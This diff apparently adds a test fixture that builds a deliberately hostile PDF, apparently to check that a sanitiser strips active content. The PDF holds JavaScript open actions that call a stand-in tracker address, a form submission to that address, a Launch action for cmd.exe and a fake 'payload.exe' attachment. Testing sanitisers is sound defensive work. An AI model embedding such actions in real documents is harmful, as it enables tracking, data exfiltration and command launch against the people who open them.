@@ -160,3 +160,93 @@ def upload(data: bytes, name: str):
 
 
 DEFAULT_DATE = date(2024, 2, 21)
+
+
+TRACKER = "https://tracker.example/seen"
+
+
+def hostile_pdf() -> bytes:
+    """A PDF that acts when opened: an open action and document JavaScript, an embedded file,
+    a page action, a link to a tracking address, a file attachment annotation, a launch action
+    on a widget. Its visible text is a sentence the cleaned file must still show."""
+    from pypdf import PdfWriter
+    from pypdf.generic import (
+        ArrayObject,
+        DecodedStreamObject,
+        DictionaryObject,
+        FloatObject,
+        NameObject,
+        TextStringObject,
+    )
+
+    def action(kind: str, **values) -> DictionaryObject:
+        entries = {NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)}
+        entries.update({NameObject(f"/{k}"): TextStringObject(v) for k, v in values.items()})
+        return DictionaryObject(entries)
+
+    def rect(*values) -> ArrayObject:
+        return ArrayObject([FloatObject(v) for v in values])
+
+    writer = PdfWriter()
+    page = writer.add_blank_page(300, 200)
+    content = DecodedStreamObject()
+    content.set_data(b"BT /F1 14 Tf 20 100 Td (Protocol of the count) Tj ET")
+    font = DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Font"),
+            NameObject("/Subtype"): NameObject("/Type1"),
+            NameObject("/BaseFont"): NameObject("/Helvetica"),
+        }
+    )
+    page[NameObject("/Resources")] = DictionaryObject(
+        {NameObject("/Font"): DictionaryObject({NameObject("/F1"): writer._add_object(font)})}
+    )
+    page[NameObject("/Contents")] = writer._add_object(content)
+    page[NameObject("/AA")] = DictionaryObject(
+        {NameObject("/O"): action("/JavaScript", JS="app.launchURL('" + TRACKER + "')")}
+    )
+    link = DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Annot"),
+            NameObject("/Subtype"): NameObject("/Link"),
+            NameObject("/Rect"): rect(10, 10, 290, 190),
+            NameObject("/A"): action("/URI", URI=TRACKER),
+        }
+    )
+    attachment = DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Annot"),
+            NameObject("/Subtype"): NameObject("/FileAttachment"),
+            NameObject("/Rect"): rect(0, 0, 10, 10),
+            NameObject("/FS"): TextStringObject("payload.exe"),
+        }
+    )
+    widget = DictionaryObject(
+        {
+            NameObject("/Type"): NameObject("/Annot"),
+            NameObject("/Subtype"): NameObject("/Widget"),
+            NameObject("/Rect"): rect(0, 180, 20, 200),
+            NameObject("/A"): action("/Launch", F="cmd.exe"),
+            NameObject("/AA"): DictionaryObject(
+                {NameObject("/E"): action("/JavaScript", JS="this.submitForm('" + TRACKER + "')")}
+            ),
+        }
+    )
+    page[NameObject("/Annots")] = ArrayObject(
+        [writer._add_object(a) for a in (link, attachment, widget)]
+    )
+    writer.add_attachment("payload.exe", b"MZ pretend executable")
+    document_script = action("/JavaScript", JS="app.alert('opened');")
+    writer._root_object["/Names"][NameObject("/JavaScript")] = DictionaryObject(
+        {
+            NameObject("/Names"): ArrayObject(
+                [TextStringObject("doc"), writer._add_object(document_script)]
+            )
+        }
+    )
+    writer._root_object[NameObject("/OpenAction")] = writer._add_object(
+        action("/JavaScript", JS="app.launchURL('" + TRACKER + "')")
+    )
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
